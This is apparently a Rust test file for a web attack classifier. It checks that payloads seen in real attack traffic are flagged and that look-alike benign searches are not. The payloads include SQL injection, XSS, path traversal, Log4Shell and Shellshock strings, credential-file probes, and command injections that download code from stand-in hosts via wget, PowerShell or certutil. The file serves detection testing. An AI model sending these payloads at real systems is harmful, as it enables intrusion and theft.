//! Table-driven checks: payloads seen in real attack traffic (sqlmap, Nikto, nuclei
//! templates, public Log4Shell/Shellshock write-ups) against benign requests that
//! share their words (search terms such as "select chairs", "drop earrings").

use super::*;

fn kind(uri: &str) -> Option<AttackKind> {
    classifier()
        .classify(b"GET", uri.as_bytes(), b"Mozilla/5.0", b"")
        .map(|h| h.kind)
}

#[test]
fn attacks_are_recognised() {
    use AttackKind::*;
    let cases: &[(&str, AttackKind)] = &[
        ("/products?id=1%27%20OR%20%271%27%3D%271", Sqli),
        ("/products?id=1'", Sqli),
        ("/products?id=1%2527", Sqli),
        (
            "/p?id=-1%20UNION%20ALL%20SELECT%20table_name,2,3%20FROM%20information_schema.tables--",
            Sqli,
        ),
        (
            "/p?id=1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)",
            Sqli,
        ),
        ("/p?id=1';WAITFOR%20DELAY%20'0:0:5'--", Sqli),
        ("/p?id=1%20OR%201%3D1--", Sqli),
        ("/p?id=admin'--", Sqli),
        ("/p?id=1;DROP%20TABLE%20users--", Sqli),
        ("/p?id=1%20ORDER%20BY%2010--", Sqli),
        (
            "/p?id=1%20AND%203810=CAST((CHR(113)||CHR(112))%20AS%20NUMERIC)",
            Sqli,
        ),
        ("/p?id=x%27%20or%20benchmark(10000000,MD5(1))%23", Sqli),
        ("/p?id=1)%20AND%201=1%20AND%20(1=1", Sqli),
        // SecLists Fuzzing/Databases/SQLi/Generic-SQLi.txt shapes.
        ("/p?id=%20or%20a%3Da--", Sqli),
        ("/p?id=hi%20or%20x=x", Sqli),
        ("/p?id=%20or%201%20--%27", Sqli),
        ("/p?id=%20or%20(EXISTS)", Sqli),
        ("/p?id=%20or%20%27text%27%20=%20n%27text%27", Sqli),
        ("/p?id=1%20/*!50000union*/%20select%201", Sqli),
        ("/p?id=PRINT%20@@variable", Sqli),
        ("/p?id=%27||UTL_HTTP.REQUEST", Sqli),
        ("/p?id=--sp_password", Sqli),
        ("/p?id=exec%20xp", Sqli),
        // sqlmap (SecLists sqlmap-risk-classified boolean_blind.txt).
        (
            "/p?id=1%20(CASE%20WHEN%205872%3D4974%20THEN%201%20ELSE%20NULL%20END)",
            Sqli,
        ),
        ("/p?id=1)%20(4912%3D6276)*6905", Sqli),
        (
            "/p?id=1%22%20;IIF(7247%3D4426,1,1/0)%20AND%20%221%22%3D%221",
            Sqli,
        ),
        ("/p?id=1)%20ELT(3558%3D7570,1)", Sqli),
        ("/p?id=or+true--", Sqli),
        (
            "/p?id=@var%20select%20@var%20as%20var%20into%20temp%20end%20--",
            Sqli,
        ),
        ("/login?user=*(|(objectclass=*))", CodeInjection),
        ("/login?user=*)(uid=*))(|(uid=*", CodeInjection),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", Xss),
        ("/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", Xss),
        ("/r?next=javascript:alert(document.cookie)", Xss),
        ("/download?file=../../../../etc/passwd", PathTraversal),
        ("/download?file=..%2f..%2f..%2fetc%2fpasswd", PathTraversal),
        ("/download?file=..%252f..%252fetc%252fpasswd", PathTraversal),
        ("/static/..%c0%af..%c0%afetc/passwd", PathTraversal),
        ("/x?f=..\\..\\..\\windows\\win.ini", PathTraversal),
        (
            "/page?include=php://filter/convert.base64-encode/resource=index.php",
            FileInclusion,
        ),
        (
            "/index.php?page=http://evil.example/shell.txt?",
            FileInclusion,
        ),
        ("/cgi?host=127.0.0.1;cat%20/etc/passwd", CommandInjection),
        ("/ping?ip=1.1.1.1|id", CommandInjection),
        ("/x?c=$(wget%20http://x.example/a.sh)", CommandInjection),
        (
            "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
            KnownExploit,
        ),
        ("/ping?ip=127.0.0.1%0acat%20/etc/passwd", CommandInjection),
        ("/ping?ip=127.0.0.1%26%26whoami", CommandInjection),
        ("/ping?ip=127.0.0.1;w'h'o'am'i", CommandInjection),
        ("/x?c=%26%20type%20C:%5Cwindows%5Cwin.ini", CommandInjection),
        (
            "/x?c=%7C%20powershell%20-nop%20-c%20%22IEX(New-Object%20Net.WebClient).DownloadString('http://x/a')%22",
            CommandInjection,
        ),
        (
            "/x?c=%26%20certutil%20-urlcache%20-f%20http://x/a.exe",
            CommandInjection,
        ),
        ("/page?name=%7B%7B7*7%7D%7D", CodeInjection),
        (
            "/page?name=$%7BT(java.lang.Runtime).getRuntime().exec('id')%7D",
            CodeInjection,
        ),
        (
            "/page?x=%3C?php%20system($_GET%5B'c'%5D);%20?%3E",
            CodeInjection,
        ),
        ("/page?x=-d+allow_url_include%3d1", CodeInjection),
        ("/index.php?file=expect://id", FileInclusion),
        ("/files/..%u2216..%u2216windows%u2216win.ini", PathTraversal),
        ("/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", PathTraversal),
        ("/.aws/credentials", SensitiveFile),
        ("/.cursor/mcp.json", SensitiveFile),
        ("/example.com.zip", SensitiveFile),
        ("/mgmt/tm/util/bash", KnownExploit),
        (
            "/redirect?to=%0d%0aSet-Cookie:%20session=attacker",
            ProtocolAttack,
        ),
        (
            "/a?x=1%20HTTP/1.1%0d%0aHost:%20x%0d%0a%0d%0aGET%20/admin%20HTTP/1.1",
            ProtocolAttack,
        ),
        ("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", KnownExploit),
        ("/?x=${jndi:ldap://x.example/a}", Jndi),
        ("/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D", Jndi),
        ("/.env", SensitiveFile),
        ("/api/.env", SensitiveFile),
        ("/.env.production", SensitiveFile),
        ("/.git/config", SensitiveFile),
        ("/wp-config.php.bak", SensitiveFile),
        ("/backup.sql", SensitiveFile),
        ("/backup.tar.gz", SensitiveFile),
        ("/www.zip", SensitiveFile),
        ("/phpmyadmin/index.php", AdminProbe),
        ("/wp-includes/wlwmanifest.xml", AdminProbe),
        (
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            KnownExploit,
        ),
        ("/vendor/phpunit/", AdminProbe),
        ("/?XDEBUG_SESSION_START=phpstorm", AdminProbe),
        ("/uploads/shell.php", Webshell),
        ("/wp-content/uploads/2024/03/x.php", Webshell),
        ("/c99.php", Webshell),
    ];
    let c = WebClassifier::new();
    for (uri, want) in cases {
        let got = c
            .classify(b"GET", uri.as_bytes(), b"Mozilla/5.0", b"")
            .map(|h| h.kind);
        assert_eq!(got, Some(*want), "{uri}");
    }
}

#[test]
fn benign_requests_are_not_attacks() {
    for uri in [
        "/",
        "/search?q=select+chairs",
        "/search?q=union+jack+flag",
        "/search?q=drop+earrings",
        "/search?q=1+or+2+person+tent",
        "/search?q=order+by+phone",
        "/search?q=where+to+buy+linen",
        "/search?q=o%27reilly+books",
        "/category/shoes?page=3&cat=5",
        "/products/1234-amber-anchor?utm_source=google&utm_medium=cpc",
        "/api/v1/items?category=home&page=2&limit=24",
        "/blog/%E3%81%93%E3%82%93%E3%81%AB%E3%81%A1%E3%81%AF",
        "/static/js/main.1a2b3c4d.js",
        "/images/products/1001-0-640.webp",
        "/.well-known/security.txt",
        "/robots.txt",
        "/envelope-designs",
        "/gitlab-tips",
        "/blog/how-to-backup-your-site",
        "/docs/select-from-the-menu",
        "/uploads/photo.jpg",
        "/wp-login.php",
        "/admin/",
        "/search?q=tom+%26+jerry",
        "/search?q=%22iphone+15%22+case",
        "/search?q=O%27Reilly",
        "/search?q=C%3A%5CUsers+folder",
        "/api/items?filter=a|b",
        "/search?q=1%3D1+math+quiz",
        "/owa/",
        "/jquery.min.zip",
        "/downloads/example.com.zip",
        "/search?q=this+or+that",
        "/search?q=a+or+b+testing",
        "/search?q=plan+a+or+plan+b",
        "/search?q=exists+or+not",
        "/search?q=src/**/*.js",
        "/search?q=%40%40+symbol",
        "/search?q=print+at+home",
        "/search?q=in+case+when+it+rains+then+stay",
        "/blog/before--after",
        "/calc?expr=(2%3D2)+is+true",
    ] {
        assert_eq!(kind(uri), None, "{uri}");
    }
}

#[test]
fn scanners_and_header_attacks() {
    let c = WebClassifier::new();
    let s = c
        .classify(
            b"GET",
            b"/",
            b"sqlmap/1.7.2#stable (https://sqlmap.org)",
            b"",
        )
        .unwrap();
    assert_eq!(s.kind, AttackKind::Scanner);
    let n = c
        .classify(
            b"GET",
            b"/",
            b"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)",
            b"",
        )
        .unwrap();
    assert_eq!(n.kind, AttackKind::Scanner);
    let j = c
        .classify(b"GET", b"/", b"${jndi:ldap://198.51.100.1:1389/a}", b"")
        .unwrap();
    assert_eq!(j.kind, AttackKind::Jndi);
    let sh = c
        .classify(
            b"GET",
            b"/cgi-bin/status",
            b"() { :; }; /bin/bash -c 'id'",
            b"",
        )
        .unwrap();
    assert_eq!(sh.kind, AttackKind::KnownExploit);
    assert_eq!(sh.reference, Some("CVE-2014-6271"));
    assert!(
        c.classify(b"GET", b"/", b"python-requests/2.31.0", b"")
            .is_none()
    );
    assert!(
        c.classify(
            b"GET",
            b"/",
            b"Mozilla/5.0 (compatible; Googlebot/2.1)",
            b""
        )
        .is_none()
    );
}

#[test]
fn a_repeated_target_keeps_its_verdict_and_its_headers_are_still_read() {
    let c = classifier();
    // Clean the first time, so remembered as clean …
    let ua = b"Mozilla/5.0 (X11; Linux x86_64)";
    assert!(
        c.classify(b"GET", b"/news/2024/item.html", ua, b"")
            .is_none()
    );
    assert!(
        c.classify(b"GET", b"/news/2024/item.html", ua, b"")
            .is_none()
    );
    // … and its headers are still read the next time.
    let sh = c
        .classify(
            b"GET",
            b"/news/2024/item.html",
            b"() { :; }; /bin/bash -c 'id'",
            b"",
        )
        .map(|h| h.reference);
    assert_eq!(sh, Some(Some("CVE-2014-6271")));
    let j = c.classify(b"GET", b"/news/2024/item.html", ua, b"${jndi:ldap://x/a}");
    assert_eq!(j.map(|h| h.kind), Some(AttackKind::Jndi));
    let s = c.classify(b"GET", b"/news/2024/item.html", b"sqlmap/1.7.2#stable", b"");
    assert_eq!(s.map(|h| h.kind), Some(AttackKind::Scanner));
    // An attack stays an attack however often it comes.
    for _ in 0..3 {
        assert_eq!(kind("/p?id=1%20OR%201%3D1--"), Some(AttackKind::Sqli));
        assert_eq!(kind("/.env"), Some(AttackKind::SensitiveFile));
    }
}

#[test]
fn a_method_cannot_make_an_attack_look_remembered() {
    let c = classifier();
    // Method and URI join to the same bytes in both requests: the first is clean (the
    // classifier reads the URI, `--`), the second carries the injection in its URI.
    let first = c.classify(
        b"GET/products?id=1 union select password from users",
        b"--",
        b"",
        b"",
    );
    assert!(first.is_none());
    let hit = c.classify(
        b"GET",
        b"/products?id=1 union select password from users--",
        b"",
        b"",
    );
    assert_eq!(hit.map(|h| h.kind), Some(AttackKind::Sqli));
}

proptest::proptest! {
    /// The per-thread memory of clean targets changes no verdict: the second look at
    /// a request gives what the first gave.
    #[test]
    fn a_second_look_gives_the_first_verdict(
        uri in "/[a-z0-9./?=&%;$(){}'<>|:_\\-]{0,80}",
        method in "(GET|POST|HEAD|PUT)",
    ) {
        let c = classifier();
        let first = c.classify(method.as_bytes(), uri.as_bytes(), b"Mozilla/5.0", b"");
        let second = c.classify(method.as_bytes(), uri.as_bytes(), b"Mozilla/5.0", b"");
        proptest::prop_assert_eq!(first, second);
    }
}

proptest::proptest! {
    #[test]
    fn never_panics(uri in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300),
                    ua in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..100)) {
        let c = classifier();
        let _ = c.classify(b"POST", &uri, &ua, &ua);
    }
}

proptest::proptest! {
    /// Attack-shaped noise: the characters the decoders and patterns care about, so
    /// that entity decoding, shell squeezing and the exploit table are all reached.
    #[test]
    fn never_panics_on_attack_shaped_input(
        uri in "/[a-z0-9./?=&%#;$(){}'\"\\\\<>|`:@+*~\\-\u{1f}\u{3042}]{0,200}",
        ua in "[(){}$:;a-z /%]{0,60}",
    ) {
        let c = classifier();
        for method in [&b"GET"[..], b"POST", b"PUT"] {
            let _ = c.classify(method, uri.as_bytes(), ua.as_bytes(), ua.as_bytes());
        }
    }
}

fn classifier() -> &'static WebClassifier {
    static C: std::sync::OnceLock<WebClassifier> = std::sync::OnceLock::new();
    C.get_or_init(WebClassifier::new)
}
